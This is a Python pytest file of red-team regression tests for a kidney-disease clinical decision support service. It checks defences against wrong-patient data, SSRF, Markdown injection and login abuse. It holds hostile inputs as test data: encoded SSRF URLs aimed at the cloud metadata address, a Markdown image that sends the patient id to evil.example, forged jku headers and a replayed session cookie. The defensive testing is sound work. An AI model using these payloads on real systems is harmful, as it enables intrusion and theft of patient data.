"""Red-team cases of issue #13, as an attacker or a buggy EHR would send them; each failed on the code before it.

1. wrong-patient data (prefetch and FHIR fallback), 4. SSRF through fhirServer and `next` links, 5. Markdown
injection through FHIR text, 6. physiologically impossible values. No test here ever reaches a host other than this
machine: the `no_outbound` guard refuses (and records) any connection or name lookup for another address.
"""

from __future__ import annotations

import copy
import ipaddress
import socket
import threading
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from service.demo import demo_bundles
from service.fhir.loader import load_bundle
from service.fhir.testserver import RunningServer
from service.web.acquire import subject_problem, under_base
from service.web.urls import UnsafeUrl, parse_fhir_url
from tests.conftest import make_app
from tests.reliability.cannedfhir import CannedFhir
from tests.web.test_hooks import URL, call, prefetch_for, resources

LEFT_OUT = "some results were left out because they did not name this patient"


@pytest.fixture
def no_outbound(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Refuse, and record, any connection or DNS lookup that would leave this machine."""
    attempts: list[str] = []
    real_connect, real_getaddrinfo = socket.socket.connect, socket.getaddrinfo

    def loopback(host: str) -> bool:
        try:
            return ipaddress.ip_address(host.split("%")[0]).is_loopback
        except ValueError:
            return host == "localhost"

    def connect(self: socket.socket, address: Any) -> None:
        if isinstance(address, tuple) and not loopback(str(address[0])):
            attempts.append(str(address[0]))
            raise OSError("outbound connection refused by the test guard")
        return real_connect(self, address)

    def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
        if host is not None and not loopback(str(host)):
            attempts.append(str(host))
            raise socket.gaierror("name lookup refused by the test guard")
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return attempts


@pytest.fixture
def bundles() -> dict[str, dict[str, Any]]:
    return demo_bundles(date.today())


def pid(bundle: dict[str, Any]) -> str:
    return str(resources(bundle)[0]["id"])


def last_audit(app: Flask) -> dict[str, Any]:
    record: dict[str, Any] = app.extensions["ckd_cds"].store.audit_records(1)[0]
    return record


def strip_subjects(prefetch: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(prefetch)
    for key, value in out.items():
        if key != "patient":
            for entry in value["entry"]:
                entry["resource"].pop("subject", None)
    return out


# --- 1. wrong-patient data -------------------------------------------------------------------------------------


def test_another_patients_prefetch_is_refused_not_shown(
    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
) -> None:
    # Chart A open; the prefetch holds patient B's Patient and B's labs with `subject` removed. Before: 200 with B's
    # stage, KFRE and age in A's chart.
    a, b = bundles["03-g3a-a2-not-coded"], bundles["12-progression-high-kfre"]
    response = client.post(URL, json=call(pid(a), prefetch=strip_subjects(prefetch_for(b))))
    assert response.status_code == 412
    assert response.json["resourceType"] == "OperationOutcome"
    assert "patient-mismatch" in response.get_data(as_text=True)
    audit = last_audit(app)
    assert audit["precondition"] == "patient-mismatch"
    assert audit["keys"]["patient"]["state"] == "wrong-patient"


def test_resources_that_do_not_name_the_patient_are_left_out_and_counted(
    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
) -> None:
    bundle = bundles["03-g3a-a2-not-coded"]
    clean = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle))).json
    prefetch = prefetch_for(bundle)
    # creatinine 9.0 mg/dL today would make this patient G5: four versions that must never be used
    poison = resources(bundles["05-g4-on-metformin"])[1]
    variants = [
        {},  # no subject at all
        {"subject": {"identifier": {"system": "urn:mrn", "value": "123"}}},  # an identifier only
        {"subject": {"reference": "Patient/someone-else"}},
        {"subject": {"reference": f"https://other.example/fhir/Patient/{pid(bundle)}"}},  # another server
    ]
    for i, extra in enumerate(variants):
        r = {k: v for k, v in copy.deepcopy(poison).items() if k != "subject"} | extra
        r["id"], r["valueQuantity"]["value"], r["effectiveDateTime"] = f"poison-{i}", 9.0, date.today().isoformat()
        prefetch["kidneyLabs"]["entry"].append({"resource": r, "search": {"mode": "match"}})
    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch))
    assert response.status_code == 200
    cards = response.json["cards"]
    assert [c["summary"] for c in cards] == [c["summary"] for c in clean["cards"]]  # built on own data only
    assert all(LEFT_OUT in c["detail"] for c in cards)  # and they say data were left out
    assert last_audit(app)["rejected_resources"] == {"no_subject": 2, "other_patient": 1, "unresolved_subject": 1}
    page = client.get("/metrics").get_data(as_text=True)
    assert 'ckd_cds_resources_rejected_total{reason="no_subject"}' in page


def test_absolute_reference_under_fhir_server_is_this_patient(
    client: FlaskClient, bundles: dict[str, dict[str, Any]], no_outbound: list[str]
) -> None:
    bundle = bundles["03-g3a-a2-not-coded"]
    base = "http://127.0.0.1:9/fhir"  # nothing is fetched: the prefetch is complete
    relative = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle), fhirServer=base)).json
    absolute = prefetch_for(bundle)
    for key, value in absolute.items():
        if key != "patient":
            for entry in value["entry"]:
                entry["resource"]["subject"]["reference"] = f"{base}/Patient/{pid(bundle)}"
    response = client.post(URL, json=call(pid(bundle), prefetch=absolute, fhirServer=base))
    assert response.json == relative
    assert no_outbound == []


@pytest.mark.parametrize(
    ("reference", "problem"),
    [
        ("Patient/p1", None),
        ("Patient/p1/_history/3", None),
        ("http://ehr.example/fhir/Patient/p1", None),
        ("Patient/p2", "other_patient"),
        ("http://ehr.example/fhir/Patient/p2", "other_patient"),
        ("http://other.example/fhir/Patient/p1", "unresolved_subject"),
        ("http://ehr.example/fhir-other/Patient/p1", "unresolved_subject"),
        ("http://ehr.example/fhir/../fhir/Patient/p1", "unresolved_subject"),
        ("Group/p1", "unresolved_subject"),
        ("urn:uuid:p1", "unresolved_subject"),
        ("#p1", "unresolved_subject"),
        ("", "no_subject"),
    ],
)
def test_subject_resolution(reference: str, problem: str | None) -> None:
    base = parse_fhir_url("http://ehr.example/fhir")
    assert subject_problem({"subject": {"reference": reference}}, "p1", base) == problem


AUTH = {"access_token": "t", "token_type": "Bearer", "expires_in": 300, "scope": "patient/*.read", "subject": "x"}


def call_through(client: FlaskClient, patient_id: str, server: CannedFhir) -> Any:
    """A hook call without prefetch: every key is read from the canned server, which is stopped afterwards."""
    try:
        return client.post(URL, json=call(patient_id, fhirServer=server.base, fhirAuthorization=AUTH))
    finally:
        server.stop()


def test_fallback_data_not_naming_the_patient_is_not_used(
    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
) -> None:
    # A misbehaving FHIR server answers the searches with another patient's labs without `subject`.
    a, b = bundles["01-normal"], bundles["12-progression-high-kfre"]
    foreign = [{k: v for k, v in r.items() if k != "subject"} for r in resources(b)[1:]]
    response = call_through(client, pid(a), CannedFhir(patient=resources(a)[0], resources=foreign))
    assert response.status_code == 200
    # nothing of B's shows in A's chart (before issue #13: B's G5 and KFRE); since issue #21 one card says that
    # results were left out, so the chart does not read "All clear"
    cards = response.json["cards"]
    assert [c["extension"]["org.ckd-cds.rule"]["id"] for c in cards] == ["results_left_out"]
    assert "G5" not in cards[0]["detail"]
    assert last_audit(app)["rejected_resources"]["no_subject"] >= len(foreign)  # every search returned them


def test_fallback_patient_of_another_id_is_refused(
    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
) -> None:
    a, b = bundles["01-normal"], bundles["12-progression-high-kfre"]
    response = call_through(client, pid(a), CannedFhir(patient=resources(b)[0], resources=resources(b)[1:]))
    assert response.status_code == 412
    assert last_audit(app)["precondition"] == "patient-mismatch"


@pytest.mark.fhir
def test_wrong_prefetched_patient_is_read_again_from_the_fhir_server(
    client: FlaskClient, fhir_server: RunningServer, bundles: dict[str, dict[str, Any]]
) -> None:
    bundle, other = bundles["03-g3a-a2-not-coded"], bundles["12-progression-high-kfre"]
    load_bundle(fhir_server.base_url, fhir_server.token, bundle)
    clean = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle))).json
    prefetch = prefetch_for(bundle) | {"patient": resources(other)[0]}
    auth = {"access_token": fhir_server.token, "token_type": "Bearer", "expires_in": 300,
            "scope": "patient/*.read", "subject": "Practitioner/1"}  # fmt: skip
    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch, fhirServer=fhir_server.base_url,
                                          fhirAuthorization=auth))  # fmt: skip
    assert response.status_code == 200
    assert response.json == clean


# --- 4. SSRF ------------------------------------------------------------------------------------------------------

TOKEN_AUTH = {"access_token": "SECRET-TOKEN", "token_type": "Bearer", "expires_in": 300, "scope": "patient/*.read",
              "subject": "x"}  # fmt: skip


@pytest.mark.parametrize(
    ("server", "status"),
    [
        ("http://169.254.169.254/", 412),  # canonical, but neither loopback nor configured (development default)
        ("http://2852039166/", 400),  # decimal form of 169.254.169.254
        ("http://0xa9fea9fe/", 400),  # hex
        ("http://0xa9.0xfe.0xa9.0xfe/", 400),
        ("http://0251.0376.0251.0376/", 400),  # octal
        ("http://169.254.43518/", 400),  # short form
        ("http://[::ffff:169.254.169.254]/", 412),  # IPv4-mapped IPv6: judged as 169.254.169.254
        ("http://[::ffff:a9fe:a9fe]/", 412),
        ("http://allowed.example@169.254.169.254/", 400),  # userinfo
        ("http://127.0.0.1:9/fhir/../../secret", 400),  # dot segments
        ("http://127.0.0.1:9/fhir/%2e%2e/secret", 400),
    ],
)
def test_fhir_server_ssrf_forms_are_never_contacted(
    app: Flask, client: FlaskClient, no_outbound: list[str], server: str, status: int
) -> None:
    response = client.post(URL, json=call("p1", fhirServer=server, fhirAuthorization=TOKEN_AUTH))
    assert response.status_code == status
    assert response.json["resourceType"] == "OperationOutcome"
    assert no_outbound == []  # no connection, no name lookup
    if status == 412:
        assert last_audit(app)["precondition"] == "fhir-server-not-allowed"


def test_allowlist_is_matched_on_parsed_parts_not_as_a_prefix(tmp_path: Path, no_outbound: list[str]) -> None:
    app = make_app(tmp_path, fhir_server_allowlist=("http://127.0.0.1:9/fhir",))
    client = app.test_client()
    for server in ("http://127.0.0.1:9/fhir-evil", "http://127.0.0.1:99/fhir", "https://127.0.0.1:9/fhir"):
        response = client.post(URL, json=call("p1", fhirServer=server, fhirAuthorization=TOKEN_AUTH))
        assert response.status_code == 412
        assert last_audit(app)["precondition"] == "fhir-server-not-allowed"
    assert no_outbound == []


def test_audit_never_keeps_userinfo_or_query(app: Flask, client: FlaskClient, no_outbound: list[str]) -> None:
    client.post(URL, json=call("p1", fhirServer="http://LocalHost:80/fhir/", fhirAuthorization=TOKEN_AUTH))
    assert last_audit(app)["fhir_server"] == "http://localhost/fhir"


@pytest.mark.parametrize(
    ("link", "followed"),
    [
        ("http://ehr.example/fhir/Observation?page=2", True),
        ("http://EHR.example:80/fhir/Observation?page=2", True),
        ("http://ehr.example/fhir/../../secret", False),
        ("http://ehr.example/fhir/%2e%2e/secret", False),
        ("http://ehr.example/fhir-other/Observation", False),
        ("http://user@ehr.example/fhir/Observation", False),
        ("https://ehr.example/fhir/Observation", False),
        ("http://0x7f000001/fhir/Observation", False),
    ],
)
def test_next_links_only_under_the_base(link: str, followed: bool) -> None:
    assert under_base(link, "http://ehr.example/fhir") is followed


@pytest.mark.parametrize("patient_id", ["..", ".", "a/../b", "a?b", "x" * 65])
def test_patient_id_must_be_a_fhir_id(client: FlaskClient, patient_id: str) -> None:
    # Patient/{{context.patientId}} must never reach the server root or another path
    response = client.post(URL, json=call(patient_id))
    assert response.status_code == 400
    assert "patientId" in response.json["issue"][0]["diagnostics"]


@pytest.mark.parametrize(
    ("url", "base"),
    [
        ("HTTPS://EHR.Example:443/fhir/", "https://ehr.example/fhir"),
        ("http://[::1]:8080/fhir", "http://[::1]:8080/fhir"),
        ("http://[::ffff:127.0.0.1]/", "http://127.0.0.1"),
        ("http://localhost./r4", "http://localhost/r4"),
    ],
)
def test_urls_are_normalised(url: str, base: str) -> None:
    assert parse_fhir_url(url).base == base


@pytest.mark.parametrize(
    "url",
    [
        "ftp://ehr.example/",
        "http://[fe80::1%25eth0]/",
        "http:///fhir",
        "http://a b/",
        "http://ehr.example/fhir?x=1",
        "http://ehr.example/fhir#f",
        "http://ex_ample/",
    ],
)
def test_unusable_urls_are_refused(url: str) -> None:
    with pytest.raises(UnsafeUrl):
        parse_fhir_url(url)


# --- 5. Markdown injection -------------------------------------------------------------------------------------


def test_fhir_text_never_reaches_card_markdown(client: FlaskClient, bundles: dict[str, dict[str, Any]]) -> None:
    bundle = copy.deepcopy(bundles["06-nsaid-egfr-below-60"])
    evil = ("Naproxen 220 MG\n# Stop all treatment\n[call us](https://evil.example/x) "
            f"![](https://evil.example/pixel.png?patient={pid(bundle)})")  # fmt: skip
    for r in resources(bundle):
        if r["resourceType"] == "MedicationRequest" and "aproxen" in r["medicationCodeableConcept"]["text"]:
            r["medicationCodeableConcept"] = {"text": evil, "coding": [{"display": evil}]}
    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle)))
    cards = response.json["cards"]
    assert any(c["extension"]["org.ckd-cds.rule"]["id"] == "nsaid_avoid" for c in cards)  # still recognised
    text = "\n".join(f"{c['summary']}\n{c['detail']}" for c in cards)
    assert "evil.example" not in text
    assert "![" not in text
    assert "](" not in text  # no link in a card's Markdown at all: links are the card's own `links`
    assert "Stop all treatment" not in text


# --- 6. implausible values -------------------------------------------------------------------------------------


def test_impossible_creatinine_and_birth_date_stage_nobody(
    client: FlaskClient, bundles: dict[str, dict[str, Any]]
) -> None:
    bundle = copy.deepcopy(bundles["01-normal"])
    for r in resources(bundle):
        if r["resourceType"] == "Observation" and r["code"]["coding"][0]["code"] == "2160-0":
            r["valueQuantity"]["value"] = 1e-300  # gave eGFR 3×10^92 and a G1 card
    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle)))
    assert response.json == {"cards": []}
    old = copy.deepcopy(bundles["03-g3a-a2-not-coded"])
    resources(old)[0]["birthDate"] = "0001-01-01"  # gave "eGFR 0.0" cards
    cards = client.post(URL, json=call(pid(old), prefetch=prefetch_for(old))).json["cards"]
    text = "\n".join(f"{c['summary']}\n{c['detail']}" for c in cards)
    assert "eGFR 0" not in text
    assert "CKD-EPI" not in text  # no eGFR at all without a plausible age; persistent A2 still counts (S12)
    assert "CKD G?/A2" in text


# --- 3. one slow FHIR server, and unbounded replies -------------------------------------------------------------


def test_oversized_fhir_response_is_refused(
    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]]
) -> None:
    bundle = bundles["03-g3a-a2-not-coded"]
    server = CannedFhir(patient=resources(bundle)[0], resources=resources(bundle)[1:], padding=11 * 1024 * 1024)
    response = call_through(client, pid(bundle), server)
    assert response.status_code == 412
    assert "fhir-response-too-large" in response.get_data(as_text=True)
    assert last_audit(app)["precondition"] == "fhir-response-too-large"


def test_a_trickling_fhir_server_does_not_starve_a_healthy_one(
    tmp_path: Path, bundles: dict[str, dict[str, Any]]
) -> None:
    # Pool of 2 per worker: before, the slow server's six queries held both threads and the healthy server's call
    # answered 412 fhir-timeout. Now each base has its own pool.
    app = make_app(tmp_path, {"fhir": {"budget_s": 2.5, "read_timeout_s": 2.0}}, fhir_pool_size=2)
    slow_patient, good = bundles["01-normal"], bundles["03-g3a-a2-not-coded"]
    slow = CannedFhir(patient=resources(slow_patient)[0], resources=[], trickle_s=0.2)
    healthy = CannedFhir(patient=resources(good)[0], resources=resources(good)[1:])
    results: dict[str, tuple[int, float]] = {}

    def post(name: str, patient_id: str, base: str) -> None:
        started = time.monotonic()
        response = app.test_client().post(URL, json=call(patient_id, fhirServer=base, fhirAuthorization=AUTH))
        results[name] = (response.status_code, time.monotonic() - started)

    try:
        slow_call = threading.Thread(target=post, args=("slow", pid(slow_patient), slow.base))
        slow_call.start()
        time.sleep(0.3)  # the slow server now holds its pool
        post("healthy", pid(good), healthy.base)
        slow_call.join()
    finally:
        slow.stop()
        healthy.stop()
    assert results["healthy"][0] == 200
    assert results["healthy"][1] < 1.5
    assert results["slow"][0] == 412  # its own budget ran out


# --- 7. stored values fit the store; a failed audit write is seen ----------------------------------------------


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def any_db_app(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Flask]:
    if request.param == "sqlite":
        yield make_app(tmp_path)
        return
    import uuid

    import sqlalchemy as sa

    name = f"ckd_cds_test_{uuid.uuid4().hex[:10]}"
    admin = sa.create_engine("postgresql+psycopg://postgres@127.0.0.1:5432/postgres", isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f'CREATE DATABASE "{name}"'))
    app = make_app(tmp_path, database_url=f"postgresql+psycopg://postgres@127.0.0.1:5432/{name}")
    yield app
    app.extensions["ckd_cds"].store.dispose()
    with admin.connect() as conn:
        conn.execute(sa.text(f'DROP DATABASE "{name}" WITH (FORCE)'))
    admin.dispose()


def feedback_item(**changes: Any) -> dict[str, Any]:
    item = {"card": "6f1d0a52-2b1e-5c43-9a57-0c6b7dd2a1e4", "outcome": "overridden",
            "outcomeTimestamp": "2026-01-01T10:00:00Z",
            "overrideReason": {"reason": {"code": "patient-declined", "system": "https://x.example"}}}  # fmt: skip
    return item | changes


@pytest.mark.parametrize(
    ("item", "field"),
    [
        (feedback_item(card="c" * 201), "feedback.0.card"),
        (feedback_item(card="abc\u0000def"), "feedback.0.card"),
        (feedback_item(overrideReason={"reason": {"code": "x" * 201}}), "feedback.0.overrideReason.reason.code"),
        (
            feedback_item(overrideReason={"reason": {"code": "x", "system": "s" * 301}}),
            "feedback.0.overrideReason.reason.system",
        ),
        (feedback_item(overrideReason={"reason": {"code": "a\u0000"}}), "feedback.0.overrideReason.reason.code"),
    ],
)
def test_feedback_that_would_not_fit_the_store_is_a_400_naming_the_field(
    any_db_app: Flask, item: dict[str, Any], field: str
) -> None:
    client = any_db_app.test_client()
    response = client.post(f"{URL}/feedback", json={"feedback": [item]})
    assert response.status_code == 400  # was 500 on PostgreSQL
    assert field in response.json["issue"][0]["diagnostics"]
    assert client.post(f"{URL}/feedback", json={"feedback": [feedback_item()]}).status_code == 200


@pytest.mark.parametrize("hook_instance", ["h" * 201, "abc\u0000def", "line\nbreak"])
def test_hook_instance_that_would_lose_the_audit_is_a_400(any_db_app: Flask, hook_instance: str) -> None:
    body = call("p1") | {"hookInstance": hook_instance}
    response = any_db_app.test_client().post(URL, json=body)
    assert response.status_code == 400  # was 200 with the audit record and card index silently lost
    assert "hookInstance" in response.json["issue"][0]["diagnostics"]


def test_a_failed_audit_write_is_logged_counted_and_degrades_readiness(
    app: Flask, client: FlaskClient, bundles: dict[str, dict[str, Any]], caplog: pytest.LogCaptureFixture
) -> None:
    import sqlalchemy as sa

    assert client.get("/readyz").status_code == 200
    store = app.extensions["ckd_cds"].store
    with store.engine.begin() as conn:
        conn.execute(sa.text("DROP TABLE audit"))  # the store can no longer write audit records
    bundle = bundles["03-g3a-a2-not-coded"]
    response = client.post(URL, json=call(pid(bundle), prefetch=prefetch_for(bundle)))
    assert response.status_code == 200  # the clinician still gets the cards
    ready = client.get("/readyz")
    assert ready.status_code == 503
    assert ready.json["status"] == "degraded"
    assert ready.json["reason"] == "audit-write-failing"
    assert any("audit write failed" in r.getMessage() for r in caplog.records)
    assert not any(pid(bundle) in r.getMessage() for r in caplog.records)  # no patient identifier in the log
    assert "ckd_cds_audit_write_failures_total 1.0" in client.get("/metrics").get_data(as_text=True)


# --- 9. smaller ones -----------------------------------------------------------------------------------------------


def test_numeric_string_exp_or_iat_is_a_401(tmp_path: Path) -> None:
    from service.web.settings import Issuer
    from tests.web.test_auth import ISS, JWKS, post, token
    from tests.web.test_auth import make_app as auth_app

    client = auth_app(tmp_path, Issuer(iss=ISS, jwks=JWKS)).test_client()
    now = int(time.time())
    assert post(client, token(iat=str(now))).status_code == 401  # was 500 (str compared with float)
    assert post(client, token(exp=str(now + 300))).status_code == 401
    assert post(client, token()).status_code == 412  # a well-formed token still authenticates


def test_forged_jku_values_fetch_a_bounded_number_of_key_sets(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    from http.server import ThreadingHTTPServer

    from service.web.auth import NEW_JWKS_PER_INTERVAL
    from service.web.settings import Issuer
    from tests.web.test_auth import ISS, JwksHandler, post, token
    from tests.web.test_auth import make_app as auth_app

    server = ThreadingHTTPServer(("127.0.0.1", 0), JwksHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    JwksHandler.fetched.clear()
    try:
        urls = tuple(f"http://127.0.0.1:{server.server_address[1]}/k{i}.json" for i in range(12))
        client = auth_app(tmp_path, Issuer(iss=ISS, jku_allowlist=urls)).test_client()
        statuses = [post(client, token(headers={"jku": url}, kid="unknown-kid")).status_code for url in urls]
    finally:
        server.shutdown()
        server.server_close()
    assert statuses == [401] * len(urls)
    assert len(JwksHandler.fetched) == NEW_JWKS_PER_INTERVAL  # before: one outbound fetch per forged value
    assert any(r.getMessage() == "jwt rejected: jku-rate" for r in caplog.records)  # the reason is in the line


def test_deeply_nested_bundle_in_the_admin_preview_is_refused_clearly(tmp_path: Path) -> None:
    from tests.web.test_admin import admin_app, csrf_of, login

    client = admin_app(tmp_path).test_client()
    login(client, "ann", "ann-pass")
    form = {"csrf_token": csrf_of(client), "action": "preview", "bundle": "[" * 200_000}
    response = client.post("/admin", data=form)
    assert response.status_code == 200  # was a RecursionError (500)
    assert "The pasted text is not valid JSON" in response.get_data(as_text=True)


# --- 8. admin sessions -------------------------------------------------------------------------------------------


def admin(tmp_path: Path, **settings: Any) -> Flask:
    from tests.web.test_admin import admin_app

    return admin_app(tmp_path, **settings)


def sign_in(client: FlaskClient, user: str, password: str, forwarded_for: str | None = None) -> int:
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    response = client.post("/admin/login", data={"username": user, "password": password}, headers=headers)
    return response.status_code


def test_logout_ends_the_session_on_the_server(tmp_path: Path) -> None:
    from tests.web.test_admin import csrf_of

    client = admin(tmp_path).test_client()
    assert sign_in(client, "ann", "ann-pass") == 302
    captured = client.get_cookie("ckd_cds_admin", path="/admin")
    assert captured is not None
    token = csrf_of(client)
    client.post("/admin/logout", data={"csrf_token": token})
    thief = admin(tmp_path).test_client()  # another instance on the same database
    thief.set_cookie("ckd_cds_admin", captured.value, path="/admin")
    response = thief.put("/admin/api/config", json={"document": {}, "base_version": 1, "comment": "x"},
                         headers={"X-CSRF-Token": token})  # fmt: skip
    assert response.status_code == 401  # before: the captured cookie saved a version after logout
    assert thief.get("/admin").status_code == 302  # to the sign-in page


def test_a_success_does_not_clear_failures_and_the_limit_holds(tmp_path: Path) -> None:
    client = admin(tmp_path, login_attempts=3).test_client()
    assert [sign_in(client, "vic", "wrong") for _ in range(2)] == [401, 401]
    assert sign_in(client, "ann", "ann-pass") == 302  # before: this cleared vic's failures from this address
    assert sign_in(client, "vic", "wrong") == 401
    assert sign_in(client, "vic", "wrong") == 429


def test_parallel_attempts_cannot_slip_past_the_limit(tmp_path: Path) -> None:
    app = admin(tmp_path, login_attempts=3)
    barrier = threading.Barrier(10)
    statuses: list[int] = []

    def attempt() -> None:
        client = app.test_client()
        barrier.wait()
        statuses.append(sign_in(client, "vic", "wrong"))

    threads = [threading.Thread(target=attempt) for _ in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert statuses.count(401) <= 3
    assert statuses.count(429) >= 7


def test_the_limit_holds_behind_a_trusted_proxy_and_ignores_forged_headers(tmp_path: Path) -> None:
    behind = admin(tmp_path / "a", login_attempts=2, trusted_proxies=1).test_client()
    assert [sign_in(behind, "vic", "wrong", "203.0.113.7") for _ in range(3)] == [401, 401, 429]
    assert sign_in(behind, "ann", "wrong", "198.51.100.9") == 401  # another client is not locked out
    direct = admin(tmp_path / "b", login_attempts=2).test_client()  # no proxy: X-Forwarded-For is not believed
    statuses = [sign_in(direct, "vic", "wrong", f"203.0.113.{i}") for i in range(3)]
    assert statuses == [401, 401, 429]


def test_an_unknown_user_costs_as_much_as_a_wrong_password(tmp_path: Path) -> None:
    client = admin(tmp_path, login_attempts=100).test_client()

    def cost(user: str) -> float:
        samples = []
        for _ in range(5):
            started = time.perf_counter()
            sign_in(client, user, "wrong")
            samples.append(time.perf_counter() - started)
        return sorted(samples)[2]

    known, unknown = cost("vic"), cost("nobody-by-this-name")
    assert unknown > 0.5 * known  # before: no hash was computed for an unknown user (about 50× faster)


def test_a_save_without_change_makes_no_version(tmp_path: Path) -> None:
    from tests.web.test_admin import BEARER

    client = admin(tmp_path).test_client()
    live = client.get("/admin/api/config", headers=BEARER).json
    body = {"document": live["document"], "base_version": live["version"], "comment": "same again"}
    response = client.put("/admin/api/config", json=body, headers=BEARER)
    assert response.status_code == 200
    assert response.json["changed"] is False
    assert len(client.get("/admin/api/config/history", headers=BEARER).json["versions"]) == 1
